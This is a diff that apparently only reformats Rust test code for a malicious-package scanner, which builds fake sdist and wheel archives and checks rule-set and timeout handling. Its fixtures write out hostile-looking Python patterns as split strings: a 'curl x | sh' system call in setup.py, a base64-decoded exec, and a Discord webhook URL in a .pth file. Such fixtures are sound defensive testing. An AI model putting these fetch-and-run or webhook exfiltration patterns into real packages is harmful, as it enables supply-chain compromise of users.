@@ -47,9 +47,18 @@ fn package_files(root: &str) -> Vec<(String, Vec<u8>)> {
     vec![
         (format!("{root}/setup.py"), payload(&["import os\n", "os.sys", "tem(", "'curl x | sh')\n"])),
         (format!("{root}/pkg/__init__.py"), b"from .core import run\n__all__ = ['run']\n".to_vec()),
-        (format!("{root}/pkg/core.py"), payload(&["import base64\n", "exec(base", "64.b64decode('cHJpbnQoMSk='))\n"])),
-        (format!("{root}/pkg/hook.pth"), payload(&["import x; u='https://discord.com/api/web", "hooks/1/abc'\n"])),
-        (format!("{root}/pkg/notes.txt"), payload(&["see https://discord.com/api/web", "hooks/ for details\n"])),
+        (
+            format!("{root}/pkg/core.py"),
+            payload(&["import base64\n", "exec(base", "64.b64decode('cHJpbnQoMSk='))\n"]),
+        ),
+        (
+            format!("{root}/pkg/hook.pth"),
+            payload(&["import x; u='https://discord.com/api/web", "hooks/1/abc'\n"]),
+        ),
+        (
+            format!("{root}/pkg/notes.txt"),
+            payload(&["see https://discord.com/api/web", "hooks/ for details\n"]),
+        ),
         (format!("{root}/pkg/data.json"), b"{\"exec(base64\": 1}".to_vec()),
         (format!("{root}/pkg/_speedups.so"), elf),
         (format!("{root}/README.md"), b"# pkg\nos.system( in a readme does not count\n".to_vec()),
@@ -57,7 +66,8 @@ fn package_files(root: &str) -> Vec<(String, Vec<u8>)> {
 }
 
 fn sdist(files: &[(String, Vec<u8>)]) -> Vec<u8> {
-    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
+    let mut builder =
+        tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
     for (path, data) in files {
         let mut header = tar::Header::new_gnu();
         header.set_size(data.len() as u64);
@@ -70,7 +80,8 @@ fn sdist(files: &[(String, Vec<u8>)]) -> Vec<u8> {
 
 fn wheel(files: &[(String, Vec<u8>)]) -> Vec<u8> {
     let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    let options =
+        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
     for (path, data) in files {
         zip.start_file(path.as_str(), options).unwrap();
         zip.write_all(data).unwrap();
@@ -186,8 +197,10 @@ fn scanners_are_reused_per_thread() {
 
 #[test]
 fn a_new_rule_set_gets_a_new_scanner() {
-    let first = Arc::new(RuleSet::compile("a", [("a", "rule a { meta: weight = 1 condition: true }")]).unwrap());
-    let second = Arc::new(RuleSet::compile("b", [("b", "rule b { meta: weight = 2 condition: true }")]).unwrap());
+    let first =
+        Arc::new(RuleSet::compile("a", [("a", "rule a { meta: weight = 1 condition: true }")]).unwrap());
+    let second =
+        Arc::new(RuleSet::compile("b", [("b", "rule b { meta: weight = 2 condition: true }")]).unwrap());
     let file = || vec![dragonfly_engine::File { path: "x.py".into(), data: b"x".to_vec() }];
     let one = Engine::new(first).scan_files("d", file());
     let two = Engine::new(second).scan_files("d", file());
@@ -217,7 +230,9 @@ fn timeouts_are_failures_naming_the_file() {
         distributions: vec![report],
     };
     match package.outcome() {
-        Outcome::Failure(f) => assert!(f.reason.contains("big.py") && f.reason.contains("timed out"), "{}", f.reason),
+        Outcome::Failure(f) => {
+            assert!(f.reason.contains("big.py") && f.reason.contains("timed out"), "{}", f.reason)
+        }
         other => panic!("a timeout must not be reported as a score: {other:?}"),
     }
 }
